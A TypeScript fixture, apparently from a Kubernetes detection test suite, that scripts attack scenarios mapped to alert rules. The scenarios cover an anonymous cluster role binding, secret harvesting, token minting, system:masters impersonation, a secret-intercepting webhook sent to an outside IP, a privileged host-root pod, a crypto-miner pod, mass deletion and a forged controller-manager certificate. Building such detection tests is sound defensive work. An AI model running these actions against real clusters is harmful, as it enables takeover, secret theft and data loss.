import type { Attack, Stage } from './attack.ts';
import { signingRequest } from './watched-cluster.ts';

const rbac = 'rbac.authorization.k8s.io';

/** The accounts of {@link changeAttacks}. */
export const changeAccounts = ['binder', 'lister', 'reader', 'minter', 'actor', 'hooker', 'loosener', 'poder', 'deleter', 'approver'];

/** Attacks by bindings, credentials, webhooks and pods. */
export const changeAttacks = ({ red, shop, user, as }: Stage): readonly Attack[] => {
  const pod = (name: string, spec: object): object => ({ apiVersion: 'v1', kind: 'Pod', metadata: { name, namespace: shop }, spec });
  return [
    {
      rule: 'binding-to-everybody',
      about: `ClusterRoleBinding/${red}-everybody`,
      actor: user('binder'),
      severity: 'critical',
      act: () =>
        as('binder', 'POST', `/apis/${rbac}/v1/clusterrolebindings`, {
          metadata: { name: `${red}-everybody` },
          roleRef: { apiGroup: rbac, kind: 'ClusterRole', name: 'view' },
          subjects: [{ apiGroup: rbac, kind: 'User', name: 'system:anonymous' }],
        }),
    },
    {
      rule: 'cluster-wide-secret-list',
      about: 'ServiceAccount/lister',
      actor: user('lister'),
      severity: 'high',
      act: () => as('lister', 'GET', '/api/v1/secrets?limit=1'),
    },
    {
      rule: 'secret-spread',
      about: 'ServiceAccount/reader',
      actor: user('reader'),
      severity: 'high',
      also: ['secret-read'],
      act: async () => {
        for (let index = 0; index < 15; index += 1) await as('reader', 'GET', `/api/v1/namespaces/${shop}/secrets/s${index}`);
      },
    },
    {
      rule: 'token-request',
      about: 'ServiceAccount/cart',
      actor: user('minter'),
      severity: 'high',
      act: () => as('minter', 'POST', `/api/v1/namespaces/${red}/serviceaccounts/cart/token`, { spec: { expirationSeconds: 172_800 } }),
    },
    {
      rule: 'impersonation',
      about: 'ServiceAccount/actor',
      actor: user('actor'),
      severity: 'critical',
      act: () => as('actor', 'GET', '/api/v1/namespaces', undefined, { 'impersonate-user': 'eve', 'impersonate-group': 'system:masters' }),
    },
    {
      rule: 'webhook-configuration',
      about: `ValidatingWebhookConfiguration/${red}`,
      actor: user('hooker'),
      severity: 'critical',
      act: () =>
        as('hooker', 'POST', '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations', {
          metadata: { name: red },
          webhooks: [
            {
              name: 'a.example.com',
              clientConfig: { url: 'https://203.0.113.9/' },
              failurePolicy: 'Ignore',
              timeoutSeconds: 1,
              sideEffects: 'None',
              admissionReviewVersions: ['v1'],
              namespaceSelector: { matchLabels: { none: 'none' } },
              rules: [{ apiGroups: [''], apiVersions: ['v1'], resources: ['secrets'], operations: ['CREATE'] }],
            },
          ],
        }),
    },
    {
      rule: 'guardrail-loosened',
      about: `Namespace/${red}`,
      actor: user('loosener'),
      act: () =>
        as('loosener', 'PATCH', `/api/v1/namespaces/${red}`, { metadata: { labels: { 'pod-security.kubernetes.io/enforce': null } } }),
    },
    {
      rule: 'host-takeover-pod',
      about: 'Pod/takeover',
      actor: user('poder'),
      severity: 'critical',
      also: ['new-host-access'],
      act: () =>
        as(
          'poder',
          'POST',
          `/api/v1/namespaces/${shop}/pods`,
          pod('takeover', {
            hostPID: true,
            containers: [{ name: 'a', image: 'example.com/a:1', securityContext: { privileged: true } }],
            volumes: [{ name: 'root', hostPath: { path: '/' } }],
          }),
        ),
    },
    {
      rule: 'miner-or-tool',
      about: 'Pod/miner',
      actor: user('poder'),
      act: () =>
        as('poder', 'POST', `/api/v1/namespaces/${shop}/pods`, pod('miner', { containers: [{ name: 'a', image: 'xmrig/xmrig:6' }] })),
    },
    {
      rule: 'mass-deletion',
      actor: user('deleter'),
      act: async () => {
        for (let index = 0; index < 12; index += 1) await as('deleter', 'DELETE', `/apis/apps/v1/namespaces/${shop}/deployments/d${index}`);
      },
    },
    {
      rule: 'certificate-request',
      about: `CertificateSigningRequest/${red}`,
      actor: user('approver'),
      act: () =>
        as('approver', 'POST', '/apis/certificates.k8s.io/v1/certificatesigningrequests', {
          metadata: { name: red },
          spec: {
            request: signingRequest('/CN=system:kube-controller-manager'),
            signerName: 'kubernetes.io/kube-apiserver-client',
            usages: ['client auth'],
          },
        }),
    },
    {
      rule: 'denied-requests',
      about: 'ServiceAccount/prober',
      actor: user('prober'),
      act: async () => {
        for (let index = 0; index < 15; index += 1) await as('prober', 'GET', `/api/v1/namespaces/${shop}/configmaps/c${index}`);
      },
    },
  ];
};
